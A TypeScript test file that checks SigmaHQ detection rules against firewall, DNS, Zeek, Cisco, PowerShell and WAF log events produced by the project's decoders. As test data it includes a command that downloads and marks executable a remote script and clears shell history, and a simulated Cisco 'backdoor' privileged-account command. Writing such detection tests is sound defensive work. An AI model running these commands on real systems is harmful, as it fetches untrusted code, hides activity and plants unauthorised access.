/**
 * SigmaHQ's network rules through the shipped mapping (rules/mappings/default.yaml) on events our own
 * decoders produce: firewall and DNS rules see the Sigma taxonomy names mapped to the ECS fields the
 * boundary and IDS decoders fill, and the network-device and Zeek rules stay on their own devices'
 * events instead of being tried on every event.
 */
import { describe, expect, it } from 'vitest';
import { compileRuleSet, listRuleFiles, loadDefaultMapping, loadRuleFile } from '../../../analyzers/sigma/index.js';
import type { RuleDocument } from '../../../analyzers/types.js';
import { decodeLine, decodeRecordLine } from '../../../collectors/index.js';
import { AssetIndex, loadInventory } from '../../../core/index.js';

const RULES = 'test/fixtures/sigma/rules';
const assets = new AssetIndex(loadInventory('config/inventory.demo.yaml'));
const context = { utcOffset: '+08:00', now: new Date('2026-11-26T12:00:00Z') };

function syslog(text: string): Record<string, unknown> {
  const decoded = decodeLine({ text, position: '1' }, 'test', assets, context);
  if (!decoded.ok) throw new Error(decoded.reason);
  return decoded.event;
}

function suricata(record: Record<string, unknown>): Record<string, unknown> {
  const text = JSON.stringify({ timestamp: '2026-11-26T10:00:00.000000+0800', src_ip: '10.20.1.15', src_port: 53124, dest_ip: '10.20.0.53', dest_port: 53, proto: 'UDP', ...record });
  const decoded = decodeRecordLine({ text, position: '1' }, 'test', assets, context, 'suricata-eve');
  if (!decoded.ok) throw new Error(decoded.reason);
  return decoded.event;
}

async function compileFiles(files: string[]) {
  const documents: RuleDocument[] = [];
  for (const file of files) documents.push(...(await loadRuleFile(`${RULES}/${file}`)).documents);
  const set = compileRuleSet(documents, { mapping: loadDefaultMapping() });
  expect(set.problems.filter((p) => p.severity === 'error')).toEqual([]);
  return (event: Record<string, unknown>) => set.match(event).map((r) => r.title);
}

describe('SigmaHQ network rules on events our decoders produce', () => {
  it('fires the SNMP firewall rule on a netfilter log of UDP/161, and not on another port', async () => {
    const titles = await compileFiles(['network/firewall/net_firewall_snmp_config_access_attempt.yml']);
    const snmp = syslog('Nov 26 10:00:00 fw01 kernel: [812.114] FWD IN=eth0 OUT=eth1 SRC=203.0.113.7 DST=10.20.0.1 LEN=78 PROTO=UDP SPT=40123 DPT=161 LEN=58');
    expect(titles(snmp)).toEqual(['Potential Network Device Configuration Theft via SNMP']);
    expect(titles(syslog('Nov 26 10:00:00 fw01 kernel: [812.114] FWD IN=eth0 OUT=eth1 SRC=203.0.113.7 DST=10.20.0.1 LEN=78 PROTO=UDP SPT=40123 DPT=162 LEN=58'))).toEqual([]);
    // The same port over TCP is not SNMP.
    expect(titles(syslog('Nov 26 10:00:00 fw01 kernel: [812.114] FWD IN=eth0 OUT=eth1 SRC=203.0.113.7 DST=10.20.0.1 LEN=60 PROTO=TCP SPT=40123 DPT=161'))).toEqual([]);
  });

  it('fires the SNMP firewall rule on a key=value firewall log too', async () => {
    const titles = await compileFiles(['network/firewall/net_firewall_snmp_config_access_attempt.yml']);
    expect(titles(syslog('Nov 26 10:00:00 fw02 firewall: src=203.0.113.7 dst=10.20.0.1 sport=40123 dport=161 proto=udp action=permit'))).toEqual([
      'Potential Network Device Configuration Theft via SNMP',
    ]);
  });

  it('fires SigmaHQ DNS rules on Suricata EVE dns records', async () => {
    const titles = await compileFiles([
      'network/dns/net_dns_mal_dnscat2_tunneling.yml',
      'network/dns/net_dns_susp_txt_exec_strings.yml',
      'network/dns/net_dns_external_service_interaction_domains.yml',
    ]);
    const dns = (rrname: string, rrtype = 'A') => suricata({ event_type: 'dns', dns: { type: 'query', id: 4711, rrname, rrtype } });
    expect(titles(dns('dnscat.1f2e3d4c5b6a.example.org', 'TXT'))).toEqual(['Potential DNScat2 DNS Tunneling']);
    expect(titles(dns('x7f3.oast.fun'))).toEqual(['DNS Query to External Service Interaction Domains']);
    expect(titles(dns('www.gov.cn'))).toEqual([]);
    // Zeek's dns.log as Filebeat ships it fills the same ECS fields.
    const zeekDns = (name: string) => ({ '@timestamp': '2026-11-26T02:00:00.000Z', event: { module: 'zeek', dataset: 'zeek.dns' }, dns: { question: { name } } });
    expect(titles(zeekDns('dnscat.77aa.example.org'))).toEqual(['Potential DNScat2 DNS Tunneling']);
    expect(titles(zeekDns('www.gov.cn'))).toEqual([]);
    // The same name in an HTTP record is no DNS query.
    expect(titles(suricata({ event_type: 'http', dest_port: 80, proto: 'TCP', http: { hostname: 'dnscat.1f2e3d4c5b6a.example.org', url: '/' } }))).toEqual([]);
  });

  it('keeps Cisco keyword rules on Cisco devices: a Linux log with the same words does not fire', async () => {
    const titles = await compileFiles(['network/cisco/aaa/cisco_cli_local_accounts.yml', 'network/cisco/aaa/cisco_cli_file_deletion.yml']);
    expect(titles(syslog('Nov 26 10:00:00 web01 sshd[811]: Invalid user admin: username unknown, delete and format refused'))).toEqual([]);
    expect(titles(syslog('Nov 26 10:00:00 core-sw01 1234: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin logged command:username backdoor privilege 15 secret 5 x'))).toEqual([
      'Cisco Local Accounts',
    ]);
  });

  it('keeps Zeek rules on Zeek logs: `not selection` rules do not fire on every other event', async () => {
    const titles = await compileFiles(['network/zeek/zeek_rdp_public_listener.yml']);
    expect(titles(syslog('Nov 26 10:00:00 web01 sshd[811]: Accepted publickey for ops from 10.20.1.15 port 51234 ssh2'))).toEqual([]);
    expect(titles(syslog('Nov 26 10:00:00 fw01 kernel: [812.114] DROP IN=eth0 OUT= SRC=203.0.113.7 DST=10.20.0.1 LEN=60 PROTO=TCP SPT=40123 DPT=3389'))).toEqual([]);
    // A Zeek rdp.log record in Filebeat's shape gets the rule.
    const zeek = { '@timestamp': '2026-11-26T02:00:00.000Z', event: { module: 'zeek', dataset: 'zeek.rdp' }, source: { ip: '203.0.113.7' }, destination: { ip: '10.20.0.9', port: 3389 } };
    expect(titles(zeek)).toEqual(['Publicly Accessible RDP Service']);
    expect(titles({ ...zeek, source: { ip: '10.20.1.15' } })).toEqual([]);
  });

  it('reads a Zeek x509 record in Filebeat\'s shape for the default Cobalt Strike certificate rule', async () => {
    const titles = await compileFiles(['network/zeek/zeek_default_cobalt_strike_certificate.yml']);
    const x509 = (serial: string) => ({ '@timestamp': '2026-11-26T02:00:00.000Z', event: { module: 'zeek', dataset: 'zeek.x509' }, zeek: { x509: { certificate: { serial, subject: 'CN=Major Cobalt Strike' } } } });
    expect(titles(x509('8BB00EE'))).toEqual(['Default Cobalt Strike Certificate']);
    expect(titles(x509('0A1B2C3D'))).toEqual([]);
  });

  it('no SigmaHQ network rule fires on ordinary Linux, web and boundary events', async () => {
    const files = (await listRuleFiles(`${RULES}/network`)).map((f) => f.slice(RULES.length + 1));
    const documents: RuleDocument[] = [];
    for (const file of files) documents.push(...(await loadRuleFile(`${RULES}/${file}`)).documents);
    const set = compileRuleSet(documents, { mapping: loadDefaultMapping() });
    const events = [
      syslog('Nov 26 10:00:00 web01 sshd[811]: Accepted password for ops from 10.20.1.15 port 51234 ssh2'),
      syslog('Nov 26 10:00:01 web01 sudo: ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/cp /etc/hosts /tmp/hosts'),
      syslog('Nov 26 10:00:02 web01 CRON[900]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)'),
      syslog('Nov 26 10:00:03 fw01 kernel: [812.114] ACCEPT IN=eth0 OUT=eth1 SRC=10.20.1.15 DST=10.20.0.9 LEN=60 PROTO=TCP SPT=51234 DPT=443'),
      syslog('Nov 26 10:00:04 web01 nginx: 10.20.1.15 - - [26/Nov/2026:10:00:04 +0800] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"'),
      suricata({ event_type: 'dns', dns: { type: 'query', id: 1, rrname: 'www.gov.cn', rrtype: 'A' } }),
      suricata({ event_type: 'flow', dest_port: 443, proto: 'TCP', flow: { pkts_toserver: 5, bytes_toserver: 600 } }),
    ];
    for (const event of events) expect(set.match(event).map((r) => r.title), JSON.stringify(event.message ?? event.event)).toEqual([]);
  });
});

describe('SigmaHQ Linux rules stay on Linux events', () => {
  it('a PowerShell script block with shell words does not fire Linux keyword rules; the same words in a Linux log do', async () => {
    const files = (await listRuleFiles(`${RULES}/linux`)).map((f) => f.slice(RULES.length + 1));
    const titles = await compileFiles(files);
    const words = 'wget http://203.0.113.7/a.sh; chmod +x a.sh; history -c';
    const doc = {
      '@timestamp': '2026-11-26T02:00:00.000Z', message: `Creating Scriptblock text (1 of 1): ${words}`,
      winlog: { channel: 'Microsoft-Windows-PowerShell/Operational', event_id: 4104, provider_name: 'Microsoft-Windows-PowerShell', computer_name: 'rsj-pc01', event_data: { ScriptBlockText: words } },
    };
    const decoded = decodeRecordLine({ text: JSON.stringify(doc), position: '1' }, 'win', assets, context, 'windows-event');
    if (!decoded.ok) throw new Error(decoded.reason);
    expect(titles(decoded.event)).toEqual([]);
    // A CEF line a WAF sent with the same words in its request is no Linux shell either.
    expect(titles(syslog(`Nov 26 10:00:00 waf01 CEF:0|Vendor|WAF|1.0|100|blocked|5|src=203.0.113.7 dst=10.20.0.9 act=block request=/x?c=${encodeURIComponent(words)} msg=${words}`))).toEqual([]);
    expect(titles(syslog(`Nov 26 10:00:00 web01 bash[900]: ${words}`)).length).toBeGreaterThan(0);
  });
});
